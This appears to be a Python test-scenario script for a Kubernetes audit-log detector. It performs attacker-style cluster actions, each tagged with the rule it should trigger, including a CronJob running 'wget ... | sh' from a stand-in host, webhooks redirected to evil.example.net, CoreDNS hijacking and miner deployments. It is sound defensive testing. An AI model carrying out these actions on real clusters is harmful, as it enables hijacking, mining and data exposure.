    deed('dashboard, LoadBalancer', 'sensitive-service-exposed', lambda c: create(c, service('kubernetes-dashboard', 'kubernetes-dashboard-lb', 443, type='LoadBalancer', selector={'k8s-app': 'kubernetes-dashboard'})))
    ing = lambda ns, nm, svc, tls=False: {'apiVersion': 'networking.k8s.io/v1', 'kind': 'Ingress', 'metadata': {'name': nm, 'namespace': ns}, 'spec': {**({'tls': [{'hosts': ['a.b'], 'secretName': 't'}]} if tls else {}), 'rules': [{'host': 'a.b', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': svc, 'port': {'number': 443}}}}]}}]}}
    deed('dashboard, Ingress', 'sensitive-service-exposed', lambda c: create(c, ing('kubernetes-dashboard', 'i', 'kubernetes-dashboard')))
    deed('redis, Ingress with TLS', 'sensitive-service-exposed', lambda c: create(c, ing('data', 'i', 'redis', True)))
    deed('postgres, NodePort', 'sensitive-service-exposed', lambda c: c.patch(path('v1/services', 'data', 'postgres'), {'spec': {'type': 'NodePort'}}))
    deed('dashboard, HTTPRoute', 'sensitive-service-exposed', lambda c: c.post('/apis/gateway.networking.k8s.io/v1/namespaces/kubernetes-dashboard/httproutes', {'apiVersion': 'gateway.networking.k8s.io/v1', 'kind': 'HTTPRoute', 'metadata': {'name': 'r', 'namespace': 'kubernetes-dashboard'}, 'spec': {'rules': [{'backendRefs': [{'name': 'kubernetes-dashboard', 'port': 443}]}]}}))
    deed('dashboard without login', 'dashboard-without-login', lambda c: create(c, workload('Deployment', 'kubernetes-dashboard', 'dash', pod_spec('kubernetesui/dashboard:v2.7.0', 'd', container={'args': ['--enable-skip-login', '--disable-settings-authorizer']}))))
    deed('Ingress without TLS', 'ingress-changed', lambda c: create(c, ing('web', 'plain', 'portal')))
    for i, (who, agent) in enumerate(((SA + 'shop:frontend', CURL), (SA + 'shop:cart', KUBECTL), (SA + 'kube-system:addon-b', PYTHON))):
        deed('token from outside, ' + agent, 'service-account-used-by-hand', lambda c: (c.get('/api/v1/namespaces/shop/pods'), None)[1], Client(who, '20.66.%d.9' % i, agent))
    deed('token by hand inside', 'service-account-used-by-hand', lambda c: (c.get('/api/v1/namespaces/kube-system/secrets'), None)[1], Client(SA + 'kube-system:addon-a', '10.244.2.99', KUBECTL))
    deed('dashboard\'s account', ('dashboard-account-used', 'service-account-used-by-hand'), lambda c: (c.get('/api/v1/namespaces/payments/secrets'), None)[1], Client(SA + 'kubernetes-dashboard:kubernetes-dashboard', '20.66.9.9', CURL))
    for agent in (KUBECTL, CURL):
        deed('Tor, ' + agent, 'request-from-threat-address', lambda c: c.get('/api/v1/namespaces/shop/pods'), Client(PETTY[8], '185.220.101.34', agent))
    deed('a known bad address', 'request-from-threat-address', lambda c: c.get('/api/v1/nodes'), Client(PETTY[9], '45.155.205.233'))
    for i, h in enumerate(({'X-Forwarded-For': '10.224.0.4'}, {'X-Real-Ip': '10.0.0.9'}, {'X-Forwarded-For': '1.2.3.4, 5.6.7.8'})):
        deed('forged address %d' % i, 'forwarded-address-forged', lambda c: c.get('/api/v1/namespaces/shop/pods'), suspect(headers=h))
    anon = lambda agent: Client('', '20.77.1.%d' % (5 + len(agent)), agent, '')
    create(helper(), binding('anon-reads', 'view', [group('system:unauthenticated')], 'shop'))
    time.sleep(2)  # until the API server knows of it
    deed('nobody reads', 'anonymous-request-permitted', lambda c: c.get('/api/v1/namespaces/shop/pods'), anon(CURL))
    deed('nobody reads, Python', 'anonymous-request-permitted', lambda c: c.get('/api/v1/namespaces/shop/configmaps'), anon(PYTHON))
    for i, (p, m) in enumerate(((path('authorization.k8s.io/v1/selfsubjectrulesreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectRulesReview', 'spec': {'namespace': 'shop'}}),
                                (path('authorization.k8s.io/v1/selfsubjectaccessreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectAccessReview', 'spec': {'resourceAttributes': {'verb': '*', 'resource': '*'}}}),
                                (path('authentication.k8s.io/v1/selfsubjectreviews'), {'apiVersion': 'authentication.k8s.io/v1', 'kind': 'SelfSubjectReview'}))):
        deed('what may I do %d' % i, 'self-subject-review', lambda c: c.post(p, m), Client(SA + 'shop:ledger', '10.244.0.%d' % (90 + i), (KUBECTL, CURL, GO)[i]))
    node = lambda ip, agent: Client(NODES[1], ip, agent)
    deed('a node asks what it may do', 'self-subject-review', lambda c: c.post(path('authorization.k8s.io/v1/selfsubjectrulesreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectRulesReview', 'spec': {'namespace': 'shop'}}), node('10.224.0.5', KUBECTL))
    deed('a node\'s credential outside', 'node-credential-misused', lambda c: c.get('/api/v1/nodes/aks-nodepool1-31415926-vmss000001'), node('20.67.1.1', 'kubelet/v1.35.4 (linux/amd64) kubernetes/dogwatch'))
    deed('a node\'s credential outside, curl', 'node-credential-misused', lambda c: (c.get('/api/v1/pods?fieldSelector=spec.nodeName%3Daks-nodepool1-31415926-vmss000001'), None)[1], node('20.67.1.2', CURL))
    deed('a node\'s credential inside, kubectl', 'node-credential-misused', lambda c: (c.get('/api/v1/secrets'), None)[1], node('10.224.0.5', KUBECTL))
    deed('a node mints tokens by hand', ('service-account-token-minted', 'node-credential-misused'), lambda c: (c.post(path('v1/serviceaccounts', 'shop', 'frontend', 'token'), {'apiVersion': 'authentication.k8s.io/v1', 'kind': 'TokenRequest', 'spec': {}}), None)[1], node('10.224.0.5', KUBECTL))
    deed('the scheduler\'s name by hand', 'control-plane-identity-misused', lambda c: (c.get('/api/v1/namespaces/kube-system/pods'), None)[1], Client('system:gcp-controller-manager', '20.67.1.3', KUBECTL))
    quiet('a label on an old LoadBalancer', '*', lambda c: c.patch(path('v1/services', 'web', 'old-lb'), {'metadata': {'labels': {'x': 'y'}}}))
    quiet('an old NodePort put back', '*', lambda c: c.update(path('v1/services', 'web', 'old-nodeport'), lambda o: o['metadata'].setdefault('annotations', {}).update(a='b')))
    quiet('a ClusterIP service', '*', lambda c: create(c, service('web', new())))
    quiet('an internal Ingress with TLS', '*', lambda c: create(c, ing('web', 'tls', 'portal', True)))
    calm('a person asks what he may do', lambda c: c.post(path('authorization.k8s.io/v1/selfsubjectrulesreviews'), {'apiVersion': 'authorization.k8s.io/v1', 'kind': 'SelfSubjectRulesReview', 'spec': {'namespace': 'shop'}}))


# The cluster itself

def control():
    for kind in ('Mutating', 'Validating'):
        k = kind + 'WebhookConfiguration'
        deed(kind + ' webhook', 'admission-webhook-changed', lambda c: create(c, webhook(kind, 'evil-' + kind.lower(), 'https://evil.example.net/hook')))
        deed(kind + ' webhook, applied', 'admission-webhook-changed', lambda c: (lambda o: c.apply(place(o), o))(webhook(kind, 'evil2-' + kind.lower())))
        p = path(KINDS[k], None, 'fabrikam-webhook')
        deed(kind + ' webhook sent elsewhere, JSON patch', 'admission-webhook-changed', lambda c: c.patch(p, [{'op': 'replace', 'path': '/webhooks/0/clientConfig', 'value': {'url': 'https://evil.example.net/x'}}], 'json'))
        deed(kind + ' webhook sent elsewhere, PUT', 'admission-webhook-changed', lambda c: c.update(path(KINDS[k], None, 'gatekeeper-webhook'), lambda o: o['webhooks'][0].update(clientConfig={'url': 'https://evil.example.net/y'})))
        deed(kind + ' webhook deleted', 'admission-control-weakened', lambda c: c.delete(path(KINDS[k], None, 'cert-manager-webhook')))
        deed(kind + ' webhook emptied', 'admission-control-weakened', lambda c: c.patch(path(KINDS[k], None, 'istio-sidecar-injector'), {'webhooks': []}, 'merge'))
    deed('all webhooks deleted', 'admission-control-weakened', lambda c: c.delete(path(KINDS['ValidatingWebhookConfiguration']) + '?labelSelector=x%3Dy'))
    vap = {'apiVersion': 'admissionregistration.k8s.io/v1', 'kind': 'ValidatingAdmissionPolicy', 'metadata': {'name': 'no-latest'}, 'spec': {'matchConstraints': {'resourceRules': [{'apiGroups': ['x.y'], 'apiVersions': ['v1'], 'operations': ['CREATE'], 'resources': ['things']}]}, 'validations': [{'expression': 'true'}]}}
    deed('admission policy', 'admission-policy-changed', lambda c: create(c, vap))
    deed('admission policy deleted', 'admission-control-weakened', lambda c: c.delete(place(vap)))
    deed('Kyverno policy deleted', 'admission-control-weakened', lambda c: (c.post('/apis/kyverno.io/v1/clusterpolicies', {'apiVersion': 'kyverno.io/v1', 'kind': 'ClusterPolicy', 'metadata': {'name': 'p'}, 'spec': {}}), c.delete('/apis/kyverno.io/v1/clusterpolicies/p'))[1])
    api = lambda n, g: {'apiVersion': 'apiregistration.k8s.io/v1', 'kind': 'APIService', 'metadata': {'name': n}, 'spec': {'group': g, 'version': 'v1', 'groupPriorityMinimum': 100, 'versionPriority': 100, 'insecureSkipTLSVerify': True, 'service': {'name': 'x', 'namespace': 'dev'}}}
    deed('APIService', 'api-service-changed', lambda c: create(c, api('v1.evil.example.net', 'evil.example.net')))
    deed('APIService, applied', 'api-service-changed', lambda c: c.apply(path(KINDS['APIService'], None, 'v1.evil2.example.net'), api('v1.evil2.example.net', 'evil2.example.net')))
    deed('APIService deleted', 'api-service-changed', lambda c: c.delete(path(KINDS['APIService'], None, 'v1.evil.example.net')))
    deed('CRD', 'custom-resource-definition-changed', lambda c: create(c, crd('evil.example.net', 'Thing')))
    deed('CRD, applied', 'custom-resource-definition-changed', lambda c: (lambda o: c.apply(place(o), o))(crd('evil2.example.net', 'Thing')))
    deed('CRD deleted', 'custom-resource-definition-changed', lambda c: c.delete(place(crd('evil.example.net', 'Thing'))))
    cm = path('v1/configmaps', 'kube-system', 'coredns')
    core = '.:53 {\n    errors\n    rewrite name exact shop.example.com evil.example.net\n    forward . 6.6.6.6\n}\n'
    deed('CoreDNS, strategic', 'coredns-changed', lambda c: c.patch(cm, {'data': {'Corefile': core}}))
    deed('CoreDNS, JSON patch', 'coredns-changed', lambda c: c.patch(cm, [{'op': 'replace', 'path': '/data/Corefile', 'value': core + '#2\n'}], 'json'))
    deed('CoreDNS, PUT', 'coredns-changed', lambda c: c.update(cm, lambda o: o['data'].update(Corefile=core + '#3\n')))
    deed('CoreDNS, applied', 'coredns-changed', lambda c: c.apply(cm, config('kube-system', 'coredns', Corefile=core + '#4\n')))
    deed('CoreDNS custom', 'coredns-changed', lambda c: create(c, config('kube-system', 'coredns-custom', **{'evil.server': 'example.com:53 {\n forward . 6.6.6.6\n}\n'})))
    deed('CoreDNS workload', 'coredns-changed', lambda c: c.patch(path('apps/v1/deployments', 'kube-system', 'coredns'), {'spec': {'template': {'spec': {'containers': [{'name': 'coredns', 'image': 'evil.example.net/coredns:1'}]}}}}))
    deed('CoreDNS service', 'coredns-changed', lambda c: c.patch(path('v1/services', 'kube-system', 'kube-dns'), {'spec': {'selector': {'app': 'evil'}}}, 'merge'))
    deed('CoreDNS pod of one\'s own', ('coredns-changed', 'workload-in-kube-system'), lambda c: create(c, workload('Pod', 'kube-system', 'dns-x', pod_spec('evil.example.net/dns:1'), {'k8s-app': 'kube-dns'})))
    deed('CoreDNS scaled to nothing', ('workloads-stopped', 'coredns-changed'), lambda c: c.patch(path('apps/v1/deployments', 'kube-system', 'coredns', 'scale'), {'spec': {'replicas': 0}}, 'merge'))
    for kind in ('Pod', 'Deployment', 'DaemonSet', 'Job', 'CronJob', 'ReplicaSet'):
        deed('%s in kube-system' % kind, 'workload-in-kube-system', lambda c: create(c, workload(kind, 'kube-system', 'guest-' + kind.lower(), pod_spec('docker.io/evil/thing:1'))))
    deed('image in kube-system', ('workload-in-kube-system', 'untrusted-image'), lambda c: c.patch(path('apps/v1/deployments', 'kube-system', 'guest-deployment'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/image', 'value': 'evil.example.net/x:1'}], 'json'))
    for kind in ('CronJob', 'DaemonSet'):
        rule = {'CronJob': 'cronjob-created', 'DaemonSet': 'daemonset-created'}[kind]
        deed(kind + ' posted', rule, lambda c: create(c, workload(kind, 'dev', 'new-' + kind.lower(), pod_spec('fabrikam.azurecr.io/a:1'))))
        deed(kind + ' applied', rule, lambda c: (lambda o: c.apply(place(o), o))(workload(kind, 'dev', 'applied-' + kind.lower(), pod_spec('fabrikam.azurecr.io/a:1'))))
        deed(kind + ' by generateName', rule, lambda c: (lambda o: (o['metadata'].pop('name'), o['metadata'].update(generateName='gen-'), c.post(place({**o, 'metadata': {'namespace': 'dev'}}, False), o))[-1])(workload(kind, 'dev', 'x', pod_spec('fabrikam.azurecr.io/a:1'))))
    deed('CronJob that fetches and runs', 'cronjob-created', lambda c: create(c, workload('CronJob', 'dev', 'fetch', pod_spec('alpine', command=['sh', '-c', 'wget -qO- http://6.6.6.6/x | sh']))))
    deed('namespace posted', 'namespace-created', lambda c: create(c, namespace('hideout')))
    deed('namespace applied', 'namespace-created', lambda c: c.apply('/api/v1/namespaces/hideout2', namespace('hideout2')))
    deed('namespace generated', 'namespace-created', lambda c: c.post('/api/v1/namespaces', {'apiVersion': 'v1', 'kind': 'Namespace', 'metadata': {'generateName': 'hide-'}}))
    mirror = workload('Pod', 'shop', 'static-x', pod_spec('evil.example.net/x:1', nodeName='aks-nodepool1-31415926-vmss000001'))
    mirror['metadata']['annotations'] = {'kubernetes.io/config.mirror': 'abc', 'kubernetes.io/config.source': 'file', 'kubernetes.io/config.hash': 'abc'}
    deed('a mirror pod by hand', 'mirror-pod-registered', lambda c: create(c, mirror))
    images = {'docker.io/xmrig/xmrig:6': 'image', 'ghcr.io/someone/xmrig:latest': 'registry', 'evil.example.net/a/kinsing@sha256:' + 'a' * 64: 'digest', 'fabrikam.azurecr.io/cpuminer': 'no tag'}
    for i, (img, how) in enumerate(images.items()):
        deed('miner by %s' % how, 'miner-deployed', lambda c: create(c, workload(('Deployment', 'Pod', 'CronJob', 'Job')[i], 'dev', 'm-%d' % i, pod_spec(img))))
    args = [['-o', 'stratum+tcp://xmr.pool.example:3333'], ['sh', '-c', './a --donate-level=1 -o pool.supportxmr.com:443'], ['--url=stratum+ssl://x:443', '--algo=rx/0', '--coin=monero']]
    for i, a in enumerate(args):
        deed('miner by arguments %d' % i, 'miner-deployed', lambda c: create(c, workload(('Deployment', 'DaemonSet', 'Job')[i], 'dev', 'ma-%d' % i, pod_spec('fabrikam.azurecr.io/worker:1', container={'args': a} if i else {'command': ['/app'] + a}))))
    deed('miner by environment', 'miner-deployed', lambda c: create(c, workload('Deployment', 'dev', 'me', pod_spec('fabrikam.azurecr.io/worker:1', container={'env': [{'name': 'POOL', 'value': 'stratum+tcp://x.example:4444'}]}))))
    create(helper(), workload('Deployment', 'dev', 'victim', pod_spec('fabrikam.azurecr.io/a:1')))
    deed('miner by a patch of arguments', 'miner-deployed', lambda c: c.patch(path('apps/v1/deployments', 'dev', 'victim'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args', 'value': ['-o', 'stratum+tcp://a.example:1']}], 'json'))
    deed('miner by a debug container', ('miner-deployed',), lambda c: c.patch(path('v1/pods', 'data', 'redis-0', 'ephemeralcontainers'), {'spec': {'ephemeralContainers': [{'name': 'z', 'image': 'xmrig/xmrig'}]}}))
    for i, img in enumerate(('evil.example.net/app:1', 'evil.example.net:5000/app', 'ghcr.io/evil/app@sha256:' + 'b' * 64, 'evil/app', 'docker.io/evil/app', 'nginx', '6.6.6.6/app:2')):
        deed('untrusted ' + img, 'untrusted-image', lambda c: create(c, workload('Deployment', 'dev', 'u-%d' % i, pod_spec(img))))
    deed('untrusted, set image', 'untrusted-image', lambda c: c.patch(path('apps/v1/deployments', 'dev', 'victim'), {'spec': {'template': {'spec': {'containers': [{'name': 'app', 'image': 'evil.example.net/b:2'}]}}}}))
    deed('untrusted, init container', 'untrusted-image', lambda c: create(c, workload('Job', 'dev', 'ui', pod_spec('fabrikam.azurecr.io/a:1', initContainers=[{'name': 'i', 'image': 'evil.example.net/i:1'}]))))
    quiet('minecraft', ['miner-deployed'], lambda c: create(c, workload('Deployment', 'dev', 'minecraft', pod_spec('fabrikam.azurecr.io/minecraft-server:1', container={'env': [{'name': 'SERVER', 'value': 'minecraft'}]}))))
    quiet('time servers have strata', ['miner-deployed'], lambda c: create(c, workload('Deployment', 'dev', 'ntp', pod_spec('fabrikam.azurecr.io/chrony:1', container={'args': ['local', 'stratum', '10', 'pool', 'pool.ntp.org']}))))
    quiet('data mining', ['miner-deployed'], lambda c: create(c, workload('Job', 'dev', 'mining', pod_spec('fabrikam.azurecr.io/data-miner:1', container={'args': ['--algo=apriori', '--threads=4']}))))
    quiet('our registry, by port and digest', ['untrusted-image'], lambda c: create(c, workload('Deployment', 'dev', 'own', pod_spec('fabrikam.azurecr.io/a@sha256:' + 'c' * 64))))
    calm('dry run of everything bad', lambda c: create(c, workload('Pod', 'dev', 'dry', spec_of({'hostPID': True, **SECURITY(privileged=True)})), '?dryRun=All'))
    quiet('a plain Deployment', '*', lambda c: create(c, workload('Deployment', 'dev', 'plain', pod_spec('fabrikam.azurecr.io/a:1'))))
    quiet('a DaemonSet\'s labels', ['daemonset-created'], lambda c: c.apply(path('apps/v1/daemonsets', 'dev', 'applied-daemonset'), {'apiVersion': 'apps/v1', 'kind': 'DaemonSet', 'metadata': {'name': 'applied-daemonset', 'namespace': 'dev', 'labels': {'a': 'b'}}}))
    quiet('CoreDNS restarted', ['coredns-changed'], lambda c: c.patch(path('apps/v1/deployments', 'kube-system', 'coredns'), {'spec': {'template': {'metadata': {'annotations': {'kubectl.kubernetes.io/restartedAt': 'x'}}}}}))
    quiet('a ConfigMap that is called coredns elsewhere', '*', lambda c: create(c, config('dev', 'coredns', Corefile='.:53 { forward . 1.1.1.1 }')))


def csr(c, name, signer, cn, o=None, user_name=None):
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(['openssl', 'req', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', d + '/k', '-out', d + '/r', '-subj', ('/O=' + o if o else '') + '/CN=' + cn], check=True, capture_output=True)
        text = base64.b64encode(open(d + '/r', 'rb').read()).decode()
    return create(c, {'apiVersion': 'certificates.k8s.io/v1', 'kind': 'CertificateSigningRequest', 'metadata': {'name': name}, 'spec': {'request': text, 'signerName': signer, 'usages': ['client auth', 'digital signature']}})


def approve(c, name, how):
    p = path(KINDS['CertificateSigningRequest'], None, name, 'approval')
    cond = {'type': 'Approved', 'status': 'True', 'reason': 'ok', 'message': 'm'}
    if how == 'put':
        return c.update(path(KINDS['CertificateSigningRequest'], None, name), lambda o: o) if False else (lambda o: c.put(p, {**o, 'status': {'conditions': [cond]}}))(c.get(path(KINDS['CertificateSigningRequest'], None, name))[1])
    if how == 'json':
        return c.patch(p, [{'op': 'add', 'path': '/status/conditions', 'value': [cond]}], 'json')
    return c.patch(p, {'status': {'conditions': [cond]}}, how)


def nodes_and_deletions():
    client = 'kubernetes.io/kube-apiserver-client'
    for i, how in enumerate(('put', 'merge', 'strategic', 'json')):
        deed('certificate approved by ' + how, 'client-certificate-requested', lambda c: (csr(c, 'csr-%d' % i, client, 'intruder-%d' % i, 'platform'), approve(c, 'csr-%d' % i, how))[1])
    deed('certificate asked for', 'client-certificate-requested', lambda c: csr(c, 'csr-x', client, 'intruder-x'))
    node = 'aks-nodepool1-31415926-vmss000002'
    p = '/api/v1/nodes/' + node
    taint = lambda e: {'key': 'x', 'value': 'y', 'effect': e}
    deed('cordon, strategic', 'node-cordoned', lambda c: c.patch(p, {'spec': {'unschedulable': True}}))
    deed('taint, JSON patch', 'node-cordoned', lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/taints', 'value': [taint('NoSchedule')]}], 'json'))
    deed('taint, NoExecute by PUT', 'node-cordoned', lambda c: c.update(p, lambda o: o['spec'].setdefault('taints', []).append(taint('NoExecute'))))
    helper().patch(p, {'spec': {'unschedulable': None, 'taints': None}}, 'merge')
    deed('cordon, JSON patch', 'node-cordoned', lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/unschedulable', 'value': True}], 'json'))
    helper().patch(p, {'spec': {'unschedulable': None}}, 'merge')
    deed('cordon, merge', 'node-cordoned', lambda c: c.patch(p, {'spec': {'unschedulable': True}}, 'merge'))
    helper().patch(p, {'spec': {'unschedulable': None}}, 'merge')

    def drain(c):
        _, l = c.get('/api/v1/namespaces/web/pods')
        _, m = c.get('/api/v1/namespaces/team-b/pods')
        for pod in (l['items'] + m['items'])[:7]:
            ns, n = pod['metadata']['namespace'], pod['metadata']['name']
            c.post(path('v1/pods', ns, n, 'eviction'), {'apiVersion': 'policy/v1', 'kind': 'Eviction', 'metadata': {'name': n, 'namespace': ns}})
    deed('drained', 'pods-evicted', drain)
    master = helper()
    for i in range(3):
        master.post('/api/v1/nodes', {'apiVersion': 'v1', 'kind': 'Node', 'metadata': {'name': 'spare-%d' % i, 'labels': {'spare': 'yes'}}})
    deed('node deleted', 'node-deleted', lambda c: c.delete('/api/v1/nodes/spare-0'))
    deed('nodes deleted together', 'node-deleted', lambda c: c.delete('/api/v1/nodes?labelSelector=spare%3Dyes'))
    for api in ('v1/events', 'events.k8s.io/v1/events'):
        _, l = master.get(path(api, 'shop'))
        n = l['items'][0]['metadata']['name']
        deed('one event of ' + api, 'events-deleted', lambda c: c.delete(path(api, 'shop', n)))
        deed('all events of ' + api, 'events-deleted', lambda c: c.delete(path(api, 'shop' if 'k8s.io' in api else 'web')))
    for kind in ('ConfigMap', 'Deployment', 'Service', 'ServiceAccount', 'Role'):
        o = {'ConfigMap': config('kube-system', 'gone', a='b'), 'Deployment': workload('Deployment', 'kube-system', 'gone', pod_spec('registry.k8s.io/pause:3.9')), 'Service': service('kube-system', 'gone'),
             'ServiceAccount': {'apiVersion': 'v1', 'kind': 'ServiceAccount', 'metadata': {'name': 'gone', 'namespace': 'kube-system'}}, 'Role': role('gone', [([''], ['pods'], ['get'])], 'kube-system')}[kind]
        create(master, o)
        deed('%s of kube-system deleted' % kind, 'delete-in-kube-system', lambda c: c.delete(place(o)))
    create(master, config('kube-system', 'gone2', a='b'))
    deed('ConfigMaps of kube-system deleted together', 'delete-in-kube-system', lambda c: c.delete(path('v1/configmaps', 'kube-system') + '?labelSelector=nothing%3Dhere'))
    for i in range(8):
        create(master, workload('Deployment', 'batch', 'b-%d' % i, pod_spec('fabrikam.azurecr.io/a:1'), replicas=0))
        create(master, config('batch', 'c-%d' % i, a='b'))
        create(master, service('batch', 's-%d' % i))
        create(master, {'apiVersion': 'v1', 'kind': 'PersistentVolumeClaim', 'metadata': {'name': 'p-%d' % i, 'namespace': 'batch'}, 'spec': {'accessModes': ['ReadWriteOnce'], 'resources': {'requests': {'storage': '1Gi'}}}})

    def all_of(kind, prefix):
        def do(c):
            for i in range(7):
                c.delete(path(KINDS[kind], 'batch', '%s-%d' % (prefix, i)))
        return do
    for kind, prefix in (('Deployment', 'b'), ('ConfigMap', 'c'), ('Service', 's'), ('PersistentVolumeClaim', 'p')):
        deed('%ss deleted one by one' % kind, 'mass-deletion', all_of(kind, prefix))
    deed('Deployments deleted together', 'collection-deleted', lambda c: c.delete(path('apps/v1/deployments', 'team-b')))
    for i in range(4):
        create(master, namespace('doomed-%d' % i))
    deed('a namespace deleted', 'namespace-deleted', lambda c: c.delete('/api/v1/namespaces/doomed-0'))
    deed('namespaces deleted', ('mass-deletion', 'namespace-deleted'), lambda c: [c.delete('/api/v1/namespaces/doomed-%d' % i) for i in (1, 2, 3)][0])
    deed('everything scaled to nothing', 'workloads-stopped', lambda c: [c.patch(path('apps/v1/deployments', ns, n, 'scale'), {'spec': {'replicas': 0}}, 'merge') for ns, n in (('web', 'portal'), ('web', 'cms'), ('payments', 'api'), ('payments', 'worker'))][0])
    net = {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'default-deny', 'namespace': 'payments'}, 'spec': {'podSelector': {}, 'policyTypes': ['Ingress']}}
    create(master, net)
    deed('a network policy opened', 'network-policy-removed', lambda c: c.patch(place(net), {'spec': {'ingress': [{}]}}, 'merge'))
    deed('a network policy deleted', 'network-policy-removed', lambda c: c.delete(place(net)))
    deed('limits deleted', 'limits-removed', lambda c: c.delete(path('policy/v1/poddisruptionbudgets', 'payments', 'all')))
    master.patch('/api/v1/namespaces/payments', {'metadata': {'labels': {'pod-security.kubernetes.io/enforce': 'baseline'}}}, 'merge')
    deed('pod security lowered', 'pod-security-lowered', lambda c: c.patch('/api/v1/namespaces/payments', {'metadata': {'labels': {'pod-security.kubernetes.io/enforce': 'privileged'}}}, 'merge'))
    deed('pod security removed', 'pod-security-lowered', lambda c: c.patch('/api/v1/namespaces/payments', [{'op': 'remove', 'path': '/metadata/labels/pod-security.kubernetes.io~1enforce'}], 'json'))
    deed('Gatekeeper scaled to nothing', 'security-agent-stopped', lambda c: c.patch(path('apps/v1/deployments', 'gatekeeper-system', 'gatekeeper-admin', 'scale'), {'spec': {'replicas': 0}}, 'merge') if False else
         (create(master, workload('Deployment', 'gatekeeper-system', 'gatekeeper-audit', pod_spec('openpolicyagent/gatekeeper:v3'))), c.patch(path('apps/v1/deployments', 'gatekeeper-system', 'gatekeeper-audit', 'scale'), {'spec': {'replicas': 0}}, 'merge'))[1])
    deed('masters\' certificate', 'masterclient-used', lambda c: c.get('/api/v1/nodes'), Client('masterclient', '20.60.1.9'))

    def refusals(c):
        for p in ('/api/v1/persistentvolumes', '/api/v1/nodes', path(KINDS['StorageClass']), path(KINDS['ClusterRoleBinding']), path(KINDS['CertificateSigningRequest'])):
            c.get(p)
        create(c, workload('Pod', 'kube-system', 'x', pod_spec('a')))
    deed('denied here and there', 'denied-actions', refusals, petty(2))

    def tries(c):
        for i in range(30):
            c.get(path('v1/secrets', 'kube-system', 'guess-%d' % i))
    deed('names of secrets guessed', ('error-burst', 'denied-actions'), tries, petty(3))

    def paths(c):
        for i in range(40):
            c.get('/api/v1/namespaces/team-%d/pods/p-%d' % (i, i))
    deed('names guessed by an admin', 'error-burst', paths)
    quiet('one refusal', ['denied-actions', 'error-burst'], lambda c: c.get('/api/v1/nodes'), petty(4))
    quiet('four times the same refusal', ['denied-actions'], lambda c: [c.get('/api/v1/nodes') for _ in range(4)], petty(5))
    quiet('two ConfigMaps of one\'s own deleted', '*', lambda c: [(create(c, config('dev', 'mine-%d' % i, a='b')), c.delete(path('v1/configmaps', 'dev', 'mine-%d' % i))) for i in range(2)])
    quiet('a node is labelled', '*', lambda c: c.patch(p, {'metadata': {'labels': {'a': 'b'}}}))
    quiet('a node is uncordoned', ['node-cordoned'], lambda c: c.patch(p, {'spec': {'unschedulable': None}}, 'merge'))


# The same deeds with an answer, an address or a body of another form

def disguises():
    forms = {'a table': 'application/json;as=Table;v=v1;g=meta.k8s.io', 'metadata only': 'application/json;as=PartialObjectMetadata;v=v1;g=meta.k8s.io', 'protobuf': 'application/vnd.kubernetes.protobuf'}
    bad = {'hostPID': True, 'hostNetwork': True, **SECURITY(privileged=True)}
    n = itertools.count()
    for form, accept in forms.items():
        ask = lambda c, m, p, b=None, kind='application/json': c.call(m, p, b, kind, {'Accept': accept})
        new = lambda: 'form-%d' % next(n)
        rules = 'privileged-container'
        deed('privileged pod, answered by ' + form, rules, lambda c: ask(c, 'POST', path('v1/pods', 'dev'), workload('Pod', 'dev', new(), spec_of(bad))))
        old = workload('Deployment', 'dev', new(), spec_of({}), replicas=0)
        create(helper(), old)
        deed('privileged by patch, answered by ' + form, rules, lambda c: ask(c, 'PATCH', place(old), {'spec': {'template': {'spec': spec_of(bad)}}}, 'application/strategic-merge-patch+json'))
        applied = workload('DaemonSet', 'dev', new(), spec_of(bad))
        deed('privileged applied, answered by ' + form, rules, lambda c: ask(c, 'PATCH', place(applied) + '?fieldManager=k&force=true', applied, 'application/apply-patch+yaml'))
        deed('cluster-admin, answered by ' + form, 'cluster-admin-binding', lambda c: ask(c, 'POST', path(KINDS['ClusterRoleBinding']), binding(new(), 'cluster-admin', [user(c.user)])))
        deed('NodePort, answered by ' + form, 'service-node-port', lambda c: ask(c, 'POST', path('v1/services', 'web'), service('web', new(), type='NodePort')))
        if form != 'metadata only':  # that shows no contents, and lists are not given so
            deed('all secrets, answered by ' + form, 'secrets-listed', lambda c: ask(c, 'GET', '/api/v1/secrets'))
    deed('cluster-admin, made by PUT', 'cluster-admin-binding', lambda c: c.put(path(KINDS['ClusterRoleBinding'], None, 'put-1'), binding('put-1', 'cluster-admin', [user(c.user)])))
    deed('cluster-admin in a namespace, made by PUT', 'cluster-admin-binding', lambda c: c.put(path(KINDS['RoleBinding'], 'web', 'put-2'), binding('put-2', 'cluster-admin', [user(c.user)], 'web')))
    deed('a role for everything, made by PUT', 'high-privilege-role', lambda c: c.put(path(KINDS['ClusterRole'], None, 'put-3'), role('put-3', ALL)))
    deed('NodePort, made by PUT', 'service-node-port', lambda c: c.put(path('v1/services', 'web', 'put-4'), service('web', 'put-4', type='NodePort')))
    deed('LoadBalancer, made by PUT', 'service-load-balancer', lambda c: c.put(path('v1/services', 'web', 'put-5'), service('web', 'put-5', type='LoadBalancer')))
    yaml = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: yaml-1\n  namespace: dev\nspec:\n  hostPID: true\n  containers:\n  - name: a\n    image: fabrikam.azurecr.io/a:1\n    securityContext: {privileged: true}\n'
    deed('privileged pod in YAML', 'privileged-container', lambda c: c.call('POST', path('v1/pods', 'dev'), yaml, 'application/yaml'))
    twice = '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"twice-1","namespace":"dev"},"spec":{"hostPID":false,"hostPID":true,"containers":[{"name":"a","image":"fabrikam.azurecr.io/a:1"}]}}'
    deed('hostPID said twice', 'pod-host-pid', lambda c: c.call('POST', path('v1/pods', 'dev'), twice))
